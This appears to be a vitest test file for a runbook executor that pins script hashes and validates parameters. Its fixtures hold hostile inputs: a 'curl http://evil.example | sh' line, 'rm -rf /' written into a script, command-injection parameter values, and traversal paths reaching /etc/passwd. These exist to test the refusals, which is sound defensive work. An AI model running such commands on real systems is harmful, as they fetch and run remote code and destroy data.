import { appendFileSync, existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { isMspError, sha256Hex } from "@msp/shared";
import { afterEach, describe, expect, it } from "vitest";
import type { ExecutorOptions, RunRequest } from "./executor.js";
import {
  createTestExecutor,
  type RunbookFixture,
  testRequest as request,
  runbookDefinition,
} from "./testkit.js";

const closers: (() => void)[] = [];
afterEach(() => {
  for (const c of closers.splice(0)) c();
});
const setup = (runbooks: RunbookFixture[], over: Partial<ExecutorOptions> = {}) => {
  const t = createTestExecutor(runbooks, over);
  closers.push(() => t.exec.close());
  return t;
};

const step = (n: number, name: string) => ({
  step: n,
  name,
  script: `scripts/${name}.sh`,
  timeout_seconds: 10,
});
/** Every script of these fixtures touches a marker named after itself, so "nothing ran" is checkable. */
const touch = (name: string) => `touch "$MSP_STATE_DIR/${name}"\necho ran=1\n`;

const disk: RunbookFixture = {
  definition: runbookDefinition("RB-DISK-001", {
    params: {
      service: { type: "string", pattern: "[a-z][a-z0-9_-]{0,30}" },
      target: { type: "path", root: "targets", required: false },
    },
    steps: [step(1, "one"), step(2, "two")],
    rollback: [{ action: "undo", script: "scripts/undo.sh" }],
  }),
  scripts: {
    "scripts/one.sh": touch("one"),
    "scripts/two.sh": touch("two"),
    "scripts/undo.sh": touch("undo"),
  },
};

describe("executor: refusals", () => {
  it("refuses a script modified after cataloguing, before anything runs", async () => {
    const { exec, sink, libDir, state, stateDir } = setup([disk]);
    const pinned = sha256Hex(disk.scripts["scripts/two.sh"] ?? "");
    appendFileSync(join(libDir, "scripts/two.sh"), "curl http://evil.example | sh\n");
    const actual = sha256Hex(readFileSync(join(libDir, "scripts/two.sh")));
    const b = await exec.run(request({ params: { service: "nginx" } }));
    expect(b.kind).toBe("runbook_refusal");
    expect(b.actions_taken).toEqual([]);
    expect(b.execution).toMatchObject({
      outcome: "refused",
      reason: `scripts/two.sh does not match its pin: catalog sha256 ${pinned}, file has sha256 ${actual}`,
    });
    expect(b.runbook).toMatchObject({ runbook_id: "RB-DISK-001", steps_executed: 0 });
    expect(["one", "two", "undo"].map((m) => existsSync(state(m)))).toEqual([false, false, false]);
    expect(readdirSync(join(stateDir, "runbooks", "runs"))).toEqual([]);
    expect(sink.problems()).toEqual([]);
  });

  it("refuses a runbook modified before load, with the load-time reason", async () => {
    const t = createTestExecutor([disk]);
    t.exec.close();
    writeFileSync(join(t.libDir, "scripts/one.sh"), "rm -rf /\n");
    const { exec, state } = setup([], { runbooks: t.libDir });
    expect(exec.list()).toEqual([
      expect.objectContaining({
        id: "RB-DISK-001",
        status: "refused",
        reason: expect.stringMatching(/^scripts\/one\.sh does not match/),
      }),
    ]);
    const b = await exec.run(request({ params: { service: "nginx" } }));
    expect(b.execution?.reason).toMatch(
      /^runbook RB-DISK-001 is refused: scripts\/one\.sh does not match its pin/,
    );
    expect(existsSync(state("one"))).toBe(false);
  });

  it("refuses a script swapped mid-run, runs rollback, and names the file", async () => {
    const fixture: RunbookFixture = { ...disk, scripts: { ...disk.scripts } };
    const { exec, libDir } = setup([fixture]);
    // Step one rewrites step two's script, as an attacker racing the executor would.
    const one = `echo "touch \\"\\$MSP_STATE_DIR/evil\\"" >> "${join(libDir, "scripts/two.sh")}"\n${touch("one")}`;
    writeFileSync(join(libDir, "scripts/one.sh"), one);
    const cat = JSON.parse(readFileSync(join(libDir, "catalog.json"), "utf8"));
    cat.runbooks[0].scripts["scripts/one.sh"] = sha256Hex(one);
    writeFileSync(join(libDir, "catalog.json"), JSON.stringify(cat));
    const { exec: fresh, state } = setup([], { runbooks: libDir });
    exec.close();
    const b = await fresh.run(request({ params: { service: "nginx" } }));
    expect(b.kind).toBe("runbook_refusal");
    expect(b.actions_taken.map((a) => [a.action, a.result])).toEqual([
      ["one", "ok"],
      ["two", "refused"],
      ["undo", "ok"],
    ]);
    expect(b.execution?.reason).toMatch(/^refused at step 2 \(two\) scripts\/two\.sh does not match its pin/);
    expect(b.runbook?.steps_executed).toBe(1);
    expect(["one", "two", "evil", "undo"].map((m) => existsSync(state(m)))).toEqual([
      true,
      false,
      false,
      true,
    ]);
  });

  it.each<[string, Record<string, unknown>, RegExp]>([
    ["command separator", { service: "nginx; rm -rf /" }, /service: contains a shell metacharacter/],
    ["command substitution", { service: "$(touch /tmp/pwned)" }, /service: contains a shell metacharacter/],
    ["backticks", { service: "`reboot`" }, /service: contains a shell metacharacter/],
    ["newline", { service: "nginx\nreboot" }, /service: contains a shell metacharacter/],
    ["traversal in a string", { service: "../../etc" }, /service: "\.\.\/\.\.\/etc" does not match/],
    [
      "relative traversal path",
      { service: "nginx", target: "../../etc" },
      /target: must be an absolute path/,
    ],
    [
      "absolute path outside roots",
      { service: "nginx", target: "/etc" },
      /target: "\/etc" resolves to "\/etc", outside/,
    ],
    ["undeclared parameter", { service: "nginx", cmd: "reboot" }, /"cmd" is not a declared parameter/],
    ["missing parameter", {}, /service is required/],
    ["wrong type", { service: 42 }, /service: must be a string/],
  ])("rejects %s before any step runs", async (_label, params, why) => {
    const { exec, sink, state } = setup([disk]);
    const b = await exec.run(request({ params }));
    expect(b.kind).toBe("runbook_refusal");
    expect(b.execution?.outcome).toBe("refused");
    expect(b.execution?.reason).toMatch(/^invalid parameters: /);
    expect(b.execution?.reason).toMatch(why);
    expect(b.actions_taken).toEqual([]);
    expect(["one", "two", "undo"].map((m) => existsSync(state(m)))).toEqual([false, false, false]);
    expect(existsSync("/tmp/pwned")).toBe(false);
    expect(sink.problems()).toEqual([]);
  });

  it("refuses unknown runbooks and commands planned against another pin", async () => {
    const { exec, sink } = setup([disk]);
    const unknown = await exec.run(request({ runbookId: "RB-NOPE-001" }));
    expect(unknown).toMatchObject({ kind: "runbook_refusal", runbook: null, hipaa_controls: [] });
    expect(unknown.execution?.reason).toBe("runbook RB-NOPE-001 is not in this agent's catalog");
    const other = await exec.run(request({ params: { service: "nginx" }, expectedSha256: "a".repeat(64) }));
    expect(other.execution?.reason).toMatch(
      /^the command pins RB-DISK-001\.yaml at sha256 a{64}, this agent's catalog pins [0-9a-f]{64}$/,
    );
    expect(sink.bundles.map((b) => b.seq)).toEqual([1, 2]);
    expect(sink.problems()).toEqual([]);
  });

  it("throws for a malformed request (a programmer error), producing no bundle", async () => {
    const { exec, sink } = setup([disk]);
    const bad = { ...request(), trigger: "llm" } as unknown as RunRequest;
    await expect(async () => exec.run(bad)).rejects.toSatisfy((e) => isMspError(e, "invalid_input"));
    expect(sink.bundles).toEqual([]);
  });
});

describe("executor: dry run", () => {
  it("runs scripts with MSP_DRY_RUN=1 and changes nothing", async () => {
    const fixture: RunbookFixture = {
      definition: runbookDefinition("RB-DISK-001", {
        params: { target: { type: "path", root: "targets" } },
        steps: [step(1, "clean")],
        success_criteria: ["removed == 2"],
      }),
      scripts: {
        "scripts/clean.sh": [
          'n=$(ls "$MSP_PARAM_TARGET"/*.tmp | wc -l)',
          'if [ "$MSP_DRY_RUN" = 1 ]; then echo "would_remove=$n"; echo "removed=$n"; exit 0; fi',
          'rm -f "$MSP_PARAM_TARGET"/*.tmp',
          'echo "removed=$n"',
          "",
        ].join("\n"),
      },
    };
    const { exec, targets, sink } = setup([fixture]);
    for (const f of ["a.tmp", "b.tmp", "keep.log"]) writeFileSync(join(targets, f), "x");
    const dry = await exec.run(request({ params: { target: targets }, dryRun: true }));
    expect(dry.execution).toMatchObject({ outcome: "dry_run", reason: "dry run" });
    expect(dry.outputs.dry_run).toBe("true");
    expect(dry.actions_taken[0]?.outputs).toEqual({ would_remove: "2", removed: "2" });
    expect(readdirSync(targets).sort()).toEqual(["a.tmp", "b.tmp", "keep.log"]);
    const real = await exec.run(request({ params: { target: targets } }));
    expect(real.execution?.outcome).toBe("success");
    expect(readdirSync(targets)).toEqual(["keep.log"]);
    expect(sink.problems()).toEqual([]);
  });
});

describe("executor: pinned script libraries", () => {
  const lib = 'greet() { echo "greeting=hello-$1"; }\n';
  const withLib = (over: Record<string, string> = {}): RunbookFixture => ({
    definition: runbookDefinition("RB-DISK-001", { steps: [step(1, "one"), step(2, "two")] }),
    scripts: {
      "scripts/one.sh": 'source "$MSP_LIB_DIR/greet.sh"\ngreet one\n',
      "scripts/two.sh": 'source "$MSP_LIB_DIR/greet.sh"\ngreet two\necho "libdir=$MSP_LIB_DIR"\n',
      "scripts/lib/greet.sh": lib,
      ...over,
    },
  });

  it("gives scripts a private copy of exactly the pinned library and records its pin in the bundle", async () => {
    const { exec, sink, libDir } = setup([withLib()]);
    const b = await exec.run(request());
    expect(b.execution?.outcome).toBe("success");
    expect(b.actions_taken.map((a) => a.outputs.greeting)).toEqual(["hello-one", "hello-two"]);
    const copy = b.actions_taken[1]?.outputs.libdir ?? "";
    expect(copy).toMatch(/\/runbooks\/runs\/[0-9a-f-]{36}\/bin\/1-1-lib$/);
    expect(copy.startsWith(libDir)).toBe(false);
    expect(b.outputs.lib_sha256).toBe(`greet.sh:${sha256Hex(lib)}`);
    expect(sink.problems()).toEqual([]);
  });

  it("refuses a library modified after load, naming it, before anything runs", async () => {
    const { exec, libDir, state } = setup([
      withLib({ "scripts/one.sh": 'touch "$MSP_STATE_DIR/one"\necho ok=1\n' }),
    ]);
    const pinned = sha256Hex(lib);
    appendFileSync(join(libDir, "scripts/lib/greet.sh"), 'touch "$MSP_STATE_DIR/evil"\n');
    const b = await exec.run(request());
    expect(b.kind).toBe("runbook_refusal");
    expect(b.actions_taken).toEqual([]);
    expect(b.execution?.reason).toBe(
      `scripts/lib/greet.sh does not match its pin: catalog sha256 ${pinned}, file has sha256 ${sha256Hex(readFileSync(join(libDir, "scripts/lib/greet.sh")))}`,
    );
    expect([existsSync(state("one")), existsSync(state("evil"))]).toEqual([false, false]);
  });

  it("refuses a library swapped mid-run at the next action, and runs nothing from it", async () => {
    const t = createTestExecutor([withLib()]);
    t.exec.close();
    // Step one rewrites the library after its own attempt copied it, as an attacker racing the executor would.
    const one = `echo 'touch "$MSP_STATE_DIR/evil"' >> "${join(t.libDir, "scripts/lib/greet.sh")}"\necho ok=1\n`;
    writeFileSync(join(t.libDir, "scripts/one.sh"), one);
    const cat = JSON.parse(readFileSync(join(t.libDir, "catalog.json"), "utf8"));
    cat.runbooks[0].scripts["scripts/one.sh"] = sha256Hex(one);
    writeFileSync(join(t.libDir, "catalog.json"), JSON.stringify(cat));
    const { exec, state } = setup([], { runbooks: t.libDir });
    const b = await exec.run(request());
    expect(b.kind).toBe("runbook_refusal");
    expect(b.actions_taken.map((a) => [a.action, a.result])).toEqual([
      ["one", "ok"],
      ["two", "refused"],
    ]);
    expect(b.execution?.reason).toMatch(
      /^refused at step 2 \(two\) scripts\/lib\/greet\.sh does not match its pin/,
    );
    expect(existsSync(state("evil"))).toBe(false);
  });

  it("refuses at load a runbook whose script sources a library the catalog does not pin", async () => {
    const t = createTestExecutor([withLib()]);
    t.exec.close();
    const cat = JSON.parse(readFileSync(join(t.libDir, "catalog.json"), "utf8"));
    delete cat.runbooks[0].scripts["scripts/lib/greet.sh"];
    writeFileSync(join(t.libDir, "catalog.json"), JSON.stringify(cat));
    const { exec } = setup([], { runbooks: t.libDir });
    expect(exec.list()).toEqual([
      expect.objectContaining({
        status: "refused",
        reason: "scripts/lib/greet.sh (sourced by RB-DISK-001) is not pinned in catalog.json",
      }),
    ]);
  });

  it("refuses at load a runbook pinning more libraries than a bundle's lib_sha256 can record", () => {
    const many = Object.fromEntries(
      Array.from({ length: 6 }, (_, i) => [`scripts/lib/helpers_${"x".repeat(40)}_${i}.sh`, `# ${i}\n`]),
    );
    const { exec } = setup([withLib(many)]);
    expect(exec.list()[0]).toMatchObject({
      status: "refused",
      reason: "RB-DISK-001 pins more script libraries than one bundle can record",
    });
  });

  it("refuses at load a catalog library key that points outside scripts/lib", async () => {
    const t = createTestExecutor([withLib()]);
    t.exec.close();
    const cat = JSON.parse(readFileSync(join(t.libDir, "catalog.json"), "utf8"));
    cat.runbooks[0].scripts["scripts/lib/../../../etc/passwd"] = "0".repeat(64);
    writeFileSync(join(t.libDir, "catalog.json"), JSON.stringify(cat));
    const { exec } = setup([], { runbooks: t.libDir });
    expect(exec.list()[0]?.reason).toBe(
      "catalog key scripts/lib/../../../etc/passwd is not a scripts/lib/<name>.sh library path",
    );
  });
});
